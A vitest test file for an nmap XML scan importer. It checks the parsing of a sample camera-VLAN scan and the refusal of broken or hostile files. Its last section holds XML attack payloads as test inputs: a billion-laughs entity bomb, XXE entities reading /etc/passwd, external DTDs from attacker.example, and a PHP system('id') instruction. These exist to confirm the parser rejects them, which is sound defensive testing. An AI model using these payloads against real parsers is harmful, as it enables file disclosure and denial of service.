// The nmap XML reader: the example scan read exactly, and every kind of hostile or broken file
// refused whole with a plain-English message (a DiscoveryFileError), never a crash.
import { mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, describe, expect, it } from "vitest";
import {
  DiscoveryFileError,
  MAX_DISCOVERY_BYTES,
  MAX_DISCOVERY_DEPTH,
  MAX_DISCOVERY_HOSTS,
  MAX_DISCOVERY_TOKEN,
  MAX_SERVICES_PER_HOST,
  type DiscoveryErrorCode,
} from "@/lib/discovery/limits";
import { readNmapXml } from "@/lib/discovery/nmap";
import type { DiscoveredHostInput, DiscoveredService } from "@/lib/discovery/types";

const EXAMPLE = path.join(process.cwd(), "docs/examples/discovery/camera-subnet.nmap.xml");
const dir = mkdtempSync(path.join(tmpdir(), "nmap-test-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let counter = 0;
function fileOf(content: string | Buffer): string {
  const file = path.join(dir, `scan-${++counter}.xml`);
  writeFileSync(file, content);
  return file;
}

async function refusal(content: string | Buffer): Promise<DiscoveryFileError> {
  try {
    await readNmapXml(fileOf(content));
  } catch (error) {
    if (error instanceof DiscoveryFileError) return error;
    throw error;
  }
  throw new Error("the file was accepted");
}

async function refusedWith(content: string | Buffer, code: DiscoveryErrorCode): Promise<DiscoveryFileError> {
  const error = await refusal(content);
  expect(error.code).toBe(code);
  expect(error.message).toMatch(/^The selected file /);
  return error;
}

const HEAD = `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE nmaprun>\n<?xml-stylesheet href="file:///usr/bin/../share/nmap/nmap.xsl" type="text/xsl"?>\n`;
const ROOT = `<nmaprun scanner="nmap" args="nmap -sV -oX - 10.0.0.0/30" start="1773134042" version="7.95" xmloutputversion="1.05">`;
const doc = (body: string, head = HEAD) => `${head}${ROOT}\n${body}\n</nmaprun>\n`;

const svc = (port: number, name: string | null, product: string | null = null, version: string | null = null, extraInfo: string | null = null): DiscoveredService => ({
  port, protocol: "tcp", name, product, version, extraInfo,
});

const host = (h: Partial<DiscoveredHostInput> & { line: number }): DiscoveredHostInput => ({
  ipv4: null, ipv6: null, mac: null, macVendor: null, hostnames: [], name: null, manufacturer: null, model: null, serial: null,
  firmware: null, services: [], osGuess: null, siteCode: null, ...h,
});

describe("the example scan of a camera VLAN", () => {
  it("reads the scan's time and command line", async () => {
    const parsed = await readNmapXml(EXAMPLE);
    expect(parsed.source).toBe("NMAP");
    expect(parsed.scannedAt).toBe("2026-03-10T09:14:02.000Z");
    expect(parsed.command).toBe("nmap -v -sV -O -p 80,443,554,8000,8080,37777 -T4 --max-retries 1 -oX camera-subnet.nmap.xml 10.20.30.0/28");
    expect(parsed.problems).toEqual([]);
    expect(parsed.problemCount).toBe(0);
    expect(parsed.discardedColumns).toEqual([]);
  });

  it("keeps the hosts that are up, with their open ports, and skips those that are down", async () => {
    const { hosts } = await readNmapXml(EXAMPLE);
    expect(hosts).toEqual([
      host({
        line: 26, ipv4: "10.20.30.1", mac: "001B54AA1001", macVendor: "Cisco Systems", hostnames: ["cam-vlan-gw.estate.example"],
        services: [svc(80, "http", "Cisco IOS http config"), svc(443, "http", "Cisco IOS http config")],
        osGuess: "Cisco Catalyst 2960 switch (IOS 15.0)",
      }),
      host({
        line: 51, ipv4: "10.20.30.2", mac: "4447CC6A210F", macVendor: "Hangzhou Hikvision Digital Technology",
        services: [
          svc(80, "http", "Hikvision IP camera httpd"), svc(443, "http", "Hikvision IP camera httpd"),
          svc(554, "rtsp", "Hikvision 7513 POE IP camera rtspd", "1.0"), svc(8000, "http-alt"),
        ],
        osGuess: "Linux 3.2 - 4.14",
      }),
      host({
        line: 81, ipv4: "10.20.30.3", mac: "3CEF8C4D7A90", macVendor: "Zhejiang Dahua Technology", hostnames: ["nvr-loading-bay.estate.example"],
        services: [svc(80, "http", "Dahua DVR httpd"), svc(443, "http", "Dahua DVR httpd"), svc(554, "rtsp", "Dahua rtspd"), svc(37777, "dvr", "Dahua DVR remote control")],
        osGuess: "Linux 3.10 - 4.11",
      }),
      host({
        line: 104, ipv4: "10.20.30.4", mac: "ACCC8E123456", macVendor: "Axis Communications AB", hostnames: ["axis-accc8e123456.estate.example"],
        services: [
          svc(80, "http", "Axis P3245-V Network Camera http config"), svc(443, "http", "Axis P3245-V Network Camera http config"),
          svc(554, "rtsp", "AXIS media control rtspd"),
        ],
        osGuess: "AXIS P3245-V network camera (Linux 4.14)",
      }),
      host({
        line: 126, ipv4: "10.20.30.5", mac: "021A7F3C55E1",
        services: [svc(80, "http", "HiLook IP camera httpd", null, "App-webs"), svc(554, "rtsp"), svc(8000, "http-alt")],
      }),
      host({
        line: 144, ipv4: "10.20.30.6", mac: "3C52827E19C4", macVendor: "Hewlett Packard", hostnames: ["prn-security-office.estate.example"],
        services: [svc(80, "http", "HP LaserJet M404dn http config"), svc(443, "http", "HP LaserJet M404dn http config")],
        osGuess: "HP LaserJet M404dn printer",
      }),
      host({
        line: 174, ipv4: "10.20.30.10", hostnames: ["scan-01.estate.example"],
        services: [svc(8080, "http", "Jetty", "9.4.53.v20231009")],
        osGuess: "Linux 2.6.32",
      }),
    ]);
  });

  it("reads the same hosts from a copy with Windows line endings", async () => {
    const crlf = readFileSync(EXAMPLE, "utf8").replace(/\n/g, "\r\n");
    expect((await readNmapXml(fileOf(crlf))).hosts).toEqual((await readNmapXml(EXAMPLE)).hosts);
  });

  it("keeps non-ASCII text whole wherever the file is split into reads", async () => {
    const vendor = "Société Générale de Vidéo ümlaut 监控";
    const hostXml = (i: number) => `<host><status state="up"/><address addr="10.0.${i >> 8}.${i & 255}" addrtype="ipv4"/><address addr="00:11:22:33:${(i >> 8).toString(16).padStart(2, "0")}:${(i & 255).toString(16).padStart(2, "0")}" addrtype="mac" vendor="${vendor}"/></host>\n`;
    const parsed = await readNmapXml(fileOf(doc(Array.from({ length: 2_000 }, (_, i) => hostXml(i)).join(""))));
    expect(parsed.hosts).toHaveLength(2_000);
    expect(new Set(parsed.hosts.map((h) => h.macVendor))).toEqual(new Set([vendor]));
  });

  it("reads the same hosts with a byte order mark in front", async () => {
    const bytes = readFileSync(EXAMPLE);
    const parsed = await readNmapXml(fileOf(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes])));
    expect(parsed.hosts).toEqual((await readNmapXml(EXAMPLE)).hosts);
  });
});

describe("hosts and their details", () => {
  it("normalises addresses, keeps only open ports, and takes the first OS guess", async () => {
    const parsed = await readNmapXml(fileOf(doc(`
<host><status state="up"/>
<address addr="FE80:0000:0000:0000:0202:B3FF:FE1E:8329" addrtype="ipv6"/>
<address addr="c0-56-e3-01-02-03" addrtype="mac" vendor="Hangzhou Hikvision Digital Technology"/>
<hostnames><hostname name="cam.example" type="user"/><hostname name="cam.example" type="PTR"/><hostname name="" type="PTR"/></hostnames>
<ports>
<port protocol="tcp" portid="80"><state state="open"/><service name="http" product="Hikvision&#x200B; IP camera httpd"/></port>
<port protocol="tcp" portid="81"><state state="closed"/><service name="hosts2-ns"/></port>
<port protocol="tcp" portid="82"><state state="filtered"/></port>
<port protocol="tcp" portid="83"><state state="open|filtered"/></port>
<port protocol="udp" portid="3702"><state state="open"/><service name="ws-discovery" product="ONVIF"/></port>
<port protocol="ip" portid="1"><state state="open"/></port>
<port protocol="tcp" portid="8000"><state state="open"/></port>
</ports>
<os><osmatch name="Linux 3.2 - 4.14" accuracy="96"/><osmatch name="Linux 5.0" accuracy="90"/></os>
</host>`)));
    expect(parsed.problems).toEqual([]);
    expect(parsed.hosts).toEqual([
      host({
        line: 6, ipv6: "fe80::202:b3ff:fe1e:8329", mac: "C056E3010203", macVendor: "Hangzhou Hikvision Digital Technology", hostnames: ["cam.example"],
        services: [
          svc(80, "http", "Hikvision IP camera httpd"),
          { port: 3702, protocol: "udp", name: "ws-discovery", product: "ONVIF", version: null, extraInfo: null },
          { port: 8000, protocol: "tcp", name: null, product: null, version: null, extraInfo: null },
        ],
        osGuess: "Linux 3.2 - 4.14",
      }),
    ]);
  });

  it("skips hosts that are down and nmap's host hints", async () => {
    const parsed = await readNmapXml(fileOf(doc(`
<hosthint><status state="up"/><address addr="10.0.0.1" addrtype="ipv4"/></hosthint>
<host><status state="down" reason="no-response"/><address addr="10.0.0.2" addrtype="ipv4"/></host>
<host><status state="unknown"/><address addr="10.0.0.3" addrtype="ipv4"/></host>
<host><status state="up"/><address addr="10.0.0.1" addrtype="ipv4"/></host>`)));
    expect(parsed.hosts.map((h) => [h.line, h.ipv4])).toEqual([[9, "10.0.0.1"]]);
    expect(parsed.problemCount).toBe(0);
  });

  it("lists a host without an address as a problem with its line, and carries on", async () => {
    const parsed = await readNmapXml(fileOf(doc(`<host><status state="up"/>
<hostnames><hostname name="ghost.example"/></hostnames></host>
<host><status state="up"/><address addr="10.0.0.9" addrtype="ipv4"/></host>`)));
    expect(parsed.hosts.map((h) => h.ipv4)).toEqual(["10.0.0.9"]);
    expect(parsed.problems).toEqual([{ line: 5, field: null, message: "The host at line 5 has no IP or MAC address, so it is left out" }]);
    expect(parsed.problemCount).toBe(1);
  });

  it("lists an unreadable MAC or IP address as a problem with the host's line", async () => {
    const parsed = await readNmapXml(fileOf(doc(`<host><status state="up"/>
<address addr="10.0.0.7" addrtype="ipv4"/>
<address addr="44:47:CC:12:34" addrtype="mac" vendor="Hangzhou Hikvision Digital Technology"/>
</host>
<host><status state="up"/><address addr="10.0.0.300" addrtype="ipv4"/></host>`)));
    expect(parsed.hosts).toEqual([host({ line: 5, ipv4: "10.0.0.7" })]);
    expect(parsed.problems).toEqual([
      { line: 5, field: "address", message: `The host at line 5 has a MAC address nmap wrote as "44:47:CC:12:34", which is not a MAC address: the MAC address is left out` },
      { line: 9, field: "address", message: `The host at line 9 has an IPv4 address nmap wrote as "10.0.0.300", which is not an IP address: the address is left out` },
      { line: 9, field: null, message: "The host at line 9 is left out: it has no readable IP or MAC address" },
    ]);
  });

  it("lists the first 1,000 problems and counts them all", async () => {
    const parsed = await readNmapXml(fileOf(doc(`<host><status state="up"/></host>\n`.repeat(1_005))));
    expect(parsed.problems).toHaveLength(1_000);
    expect(parsed.problemCount).toBe(1_005);
    expect(parsed.problems[999]).toEqual({ line: 1_004, field: null, message: "The host at line 1004 has no IP or MAC address, so it is left out" });
  });

  it("keeps the first 256 open ports of a host and says so", async () => {
    const ports = Array.from({ length: MAX_SERVICES_PER_HOST + 10 }, (_, i) => `<port protocol="tcp" portid="${i + 1}"><state state="open"/></port>`).join("");
    const parsed = await readNmapXml(fileOf(doc(`<host><status state="up"/><address addr="10.0.0.1" addrtype="ipv4"/><ports>${ports}</ports></host>`)));
    expect(parsed.hosts[0]!.services).toHaveLength(MAX_SERVICES_PER_HOST);
    expect(parsed.problems).toEqual([{ line: 5, field: "ports", message: "The host at line 5 has more than 256 open ports: only the first 256 are kept" }]);
  });

  it("decodes XML's own entities and character references", async () => {
    const parsed = await readNmapXml(fileOf(`<?xml version="1.0"?><nmaprun args="nmap -&#45;open &quot;a&amp;b&quot; &lt;&gt; &apos;&#x41;&apos;"></nmaprun>`));
    expect(parsed.command).toBe(`nmap --open "a&b" <> 'A'`);
    expect(parsed.scannedAt).toBeNull();
    expect(parsed.hosts).toEqual([]);
  });

  it("accepts a file without a declaration, document type or stylesheet", async () => {
    const parsed = await readNmapXml(fileOf(`<nmaprun start="0"><host><status state="up"/><address addr="10.0.0.1" addrtype="ipv4"/></host></nmaprun>`));
    expect(parsed.scannedAt).toBe("1970-01-01T00:00:00.000Z");
    expect(parsed.hosts).toHaveLength(1);
  });
});

describe("files refused whole", () => {
  it("refuses an empty file", async () => {
    await refusedWith("", "empty");
  });

  it("refuses a file over the size limit before reading it", async () => {
    const file = path.join(dir, "huge.xml");
    writeFileSync(file, doc(""));
    truncateSync(file, MAX_DISCOVERY_BYTES + 1);
    await expect(readNmapXml(file)).rejects.toMatchObject({ code: "tooLarge", message: expect.stringContaining("128 MB") });
  });

  it("refuses compressed files, whatever their name", async () => {
    const error = await refusedWith(gzipSync(readFileSync(EXAMPLE)), "compressed");
    expect(error.message).toBe("The selected file is compressed: upload the XML file nmap wrote, not a .gz or .zip of it");
    await refusedWith(Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(40)]), "compressed");
    await refusedWith(Buffer.concat([Buffer.from("BZh91AY&SY", "latin1"), Buffer.alloc(40)]), "compressed");
  });

  it("refuses a null byte", async () => {
    await refusedWith(doc(`<host><status state="up"/><address addr="10.0.0.1\u0000" addrtype="ipv4"/></host>`), "binary");
  });

  it("refuses UTF-16, with or without a byte order mark, and a declared encoding other than UTF-8", async () => {
    const utf16 = Buffer.from(doc(""), "utf16le");
    await refusedWith(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16]), "encoding");
    await refusedWith(utf16, "encoding");
    const be = Buffer.from(doc(""), "utf16le").swap16();
    await refusedWith(Buffer.concat([Buffer.from([0xfe, 0xff]), be]), "encoding");
    await refusedWith(doc("", `<?xml version="1.0" encoding="ISO-8859-1"?>\n`), "encoding");
  });

  it("accepts UTF-8 and ASCII declarations", async () => {
    await expect(readNmapXml(fileOf(doc("", `<?xml version="1.0" encoding="utf-8"?>\n`)))).resolves.toMatchObject({ hosts: [] });
    await expect(readNmapXml(fileOf(doc("", `<?xml version="1.0" encoding="US-ASCII"?>\n`)))).resolves.toMatchObject({ hosts: [] });
  });

  it("refuses a file that is not XML, or XML that is not an nmap scan", async () => {
    await refusedWith("CameraName,Address\nGate,http://10.0.0.1/\n", "notNmap");
    await refusedWith(`{"nmaprun": {}}`, "notNmap");
    await refusedWith(`<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><nmaprun/></svg>`, "notNmap");
    await refusedWith(`<?xml version="1.0"?>\n<!-- nothing here -->\n`, "notNmap");
    const error = await refusedWith("   \n\n", "notNmap");
    expect(error.message).toBe("The selected file is not an nmap XML file: run nmap with -oX and upload the file it writes");
  });

  it("refuses a scan cut short, with the line it stopped at", async () => {
    const text = readFileSync(EXAMPLE, "utf8");
    const cut = text.slice(0, text.indexOf(`<address addr="10.20.30.4"`));
    const error = await refusedWith(cut, "truncated");
    expect(error.line).toBe(105);
    expect(error.message).toBe(
      "The selected file ends part-way through the scan results (line 105): it may have been copied before nmap finished writing it. Run the scan again, let it finish, and upload the file",
    );
    await refusedWith(cut.slice(0, cut.length - 30), "truncated");
  });

  it("refuses malformed XML, with the line", async () => {
    const error = await refusedWith(doc(`<host><status state="up"/>\n<address addr="10.0.0.1" addrtype="ipv4">\n</host>`), "malformed");
    expect(error.line).toBe(7);
    expect(error.message).toMatch(/^The selected file is not well-formed XML \(line 7\): /);
    await refusedWith(doc(`<host a="1" a="2"></host>`), "malformed");
    await refusedWith(doc(`<host>`).replace("</nmaprun>\n", "</nmaprun>\n<nmaprun/>"), "malformed");
  });

  it("refuses elements nested deeper than the limit", async () => {
    const deep = "<a>".repeat(MAX_DISCOVERY_DEPTH) + "</a>".repeat(MAX_DISCOVERY_DEPTH);
    await refusedWith(doc(deep), "tooDeep");
    // A million levels, which would take a naive parser's stack: refused at the limit.
    await refusedWith(doc("<a>".repeat(1_000_000)), "tooDeep");
    const ok = "<a>".repeat(MAX_DISCOVERY_DEPTH - 1) + "</a>".repeat(MAX_DISCOVERY_DEPTH - 1);
    await expect(readNmapXml(fileOf(doc(ok)))).resolves.toMatchObject({ hosts: [] });
  });

  it("refuses one attribute, text, comment, tag or entity name over the token limit", async () => {
    const big = "x".repeat(MAX_DISCOVERY_TOKEN + 10);
    await refusedWith(doc(`<host comment="${big}"/>`), "tokenTooLong");
    await refusedWith(doc(`<elem>${big}</elem>`), "tokenTooLong");
    await refusedWith(doc(`<!--${big}-->`), "tokenTooLong");
    await refusedWith(doc(`<${big}/>`), "tokenTooLong");
    await refusedWith(doc(`<host ${Array.from({ length: 10_000 }, (_, i) => `a${i}="x"`).join(" ")}/>`), "tokenTooLong");
    await refusedWith(doc(`<elem>&${big.repeat(20)};</elem>`), "tokenTooLong");
    await refusedWith(doc(`<elem><![CDATA[${big.repeat(3)}]]></elem>`), "tokenTooLong");
    // Many times the limit, unterminated: refused while reading, not at the end.
    await refusedWith(doc(`<host a="${"y".repeat(MAX_DISCOVERY_TOKEN * 20)}`), "tokenTooLong");
    // Just under the limit is fine.
    await expect(readNmapXml(fileOf(doc(`<host comment="${"x".repeat(MAX_DISCOVERY_TOKEN - 100)}"/>`)))).resolves.toMatchObject({ hosts: [] });
  });

  it("refuses more hosts than the limit", async () => {
    const down = `<host><status state="down" reason="no-response" reason_ttl="0"/><address addr="10.0.0.1" addrtype="ipv4"/></host>\n`;
    const file = path.join(dir, "too-many.xml");
    writeFileSync(file, `${HEAD}${ROOT}\n${down.repeat(MAX_DISCOVERY_HOSTS + 1)}</nmaprun>\n`);
    await expect(readNmapXml(file)).rejects.toMatchObject({
      code: "tooManyHosts",
      message: "The selected file has more than 131,072 hosts: scan fewer addresses at a time, such as one subnet or one site, and upload each file",
    });
    writeFileSync(file, `${HEAD}${ROOT}\n${down.repeat(MAX_DISCOVERY_HOSTS)}</nmaprun>\n`);
    await expect(readNmapXml(file)).resolves.toMatchObject({ hosts: [], problemCount: 0 });
  }, 60_000);
});

describe("XML features nmap never uses", () => {
  it("refuses billion laughs (entities expanding entities)", async () => {
    const entities = [`<!ENTITY lol "lol">`, ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`)];
    const error = await refusedWith(`<?xml version="1.0"?>\n<!DOCTYPE nmaprun [\n${entities.join("\n")}\n]>\n<nmaprun args="&lol9;">&lol9;</nmaprun>`, "doctype");
    expect(error.message).toBe(
      "The selected file has a document type declaration that defines entities or points to another file, which nmap never writes (line 13): upload the XML file nmap wrote",
    );
  });

  it("refuses an external entity (XXE)", async () => {
    await refusedWith(`<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<nmaprun args="&xxe;"/>`, "doctype");
  });

  it("refuses parameter entities", async () => {
    await refusedWith(`<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n<nmaprun/>`, "doctype");
  });

  it("refuses an external DTD, by SYSTEM or PUBLIC identifier", async () => {
    await refusedWith(`<?xml version="1.0"?>\n<!DOCTYPE nmaprun SYSTEM "http://attacker.example/nmap.dtd">\n<nmaprun/>`, "doctype");
    await refusedWith(`<?xml version="1.0"?>\n<!DOCTYPE nmaprun PUBLIC "-//NMAP//DTD" "file:///etc/passwd">\n<nmaprun/>`, "doctype");
  });

  it("refuses a huge internal subset by its size, before it ends", async () => {
    await refusedWith(`<?xml version="1.0"?>\n<!DOCTYPE nmaprun [${`<!ENTITY a "${"b".repeat(1000)}">`.repeat(200)}]>\n<nmaprun/>`, "tokenTooLong");
  });

  it("accepts the plain document type declaration nmap writes", async () => {
    await expect(readNmapXml(fileOf(`<?xml version="1.0"?>\n<!DOCTYPE nmaprun>\n<nmaprun/>`))).resolves.toMatchObject({ hosts: [] });
    await expect(readNmapXml(fileOf(`<!DOCTYPE  nmaprun  >\n<nmaprun/>`))).resolves.toMatchObject({ hosts: [] });
  });

  it("refuses an entity that is not defined, in an attribute or in text", async () => {
    const error = await refusedWith(doc(`<host>\n<address addr="&xxe;" addrtype="ipv4"/></host>`), "entity");
    expect(error.line).toBe(6);
    expect(error.message).toBe("The selected file uses an XML entity that nmap never writes (line 6): upload the XML file nmap wrote");
    await refusedWith(doc(`<elem>&nbsp;</elem>`), "entity");
    await refusedWith(doc(`<elem>&#0;</elem>`), "entity");
  });

  it("refuses processing instructions other than the stylesheet", async () => {
    await refusedWith(`<?xml version="1.0"?>\n<?php system("id"); ?>\n<nmaprun/>`, "processingInstruction");
    await refusedWith(doc(`<?xml-model href="http://attacker.example/schema.rng"?>`), "processingInstruction");
  });
});
